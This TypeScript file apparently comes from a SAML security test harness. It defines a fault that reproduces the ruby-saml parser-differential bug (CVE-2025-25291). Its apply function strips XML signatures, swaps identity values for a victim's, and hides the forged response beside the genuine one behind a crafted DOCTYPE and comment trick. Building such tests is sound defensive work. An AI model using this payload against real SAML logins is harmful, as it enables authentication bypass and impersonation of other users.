import { defineFault } from '../fault.ts';
import { swapsFor } from '../saml/forged-content.ts';
import { escapeText } from '../saml/xml.ts';

export default defineFault({
  id: 'saml/parser-differential',
  stage: 'wire',
  summary:
    'Two responses in one text, one genuine and one for the victim. Which of them is the document depends on where a parser takes the document type to end.',
  source: {
    title: 'Two parsers that read a document type differently (CVE-2025-25291)',
    at: 'GHSA-4vc4-m8qh-g8jm (ruby-saml); SAML-Toolkits/ruby-saml#753',
    basis: 'issue',
    checked: '2026-11-24',
  },
  expect: 'refuse',
  harm: 'identity',
  grade: 'bypass',
  needs: ['victim'],
  // Who sees the genuine one: those who read as XML 1.0 says, or those who take the first `]>` for the end.
  options: { genuine: ['for-exact-parsers', 'for-hasty-parsers'] },
  // For xml-crypto, whose own parser is a hasty one.
  signature: 'broken',
  apply(xml, { genuine }, context) {
    const swaps = new Map([...swapsFor(context)].map(([from, to]) => [escapeText(from), escapeText(to)]));
    const declaration = /^<\?xml[^>]*\?>/.exec(xml)?.[0] ?? '';
    const body = xml.slice(declaration.length);
    const forged = body
      .replace(/<(\w+:)?Signature [\s\S]*?<\/(\w+:)?Signature>/g, '')
      .replace(/>([^<]+)</g, (whole, text: string) => {
        const swap = swaps.get(text);
        return swap === undefined ? whole : `>${swap}<`;
      });
    const [exact, hasty] = genuine === 'for-exact-parsers' ? [body, forged] : [forged, body];
    return `${declaration}<!DOCTYPE r [<!NOTATION n SYSTEM '">]><!--'>]>${exact}<?n -->${hasty}<?n ?>`;
  },
});
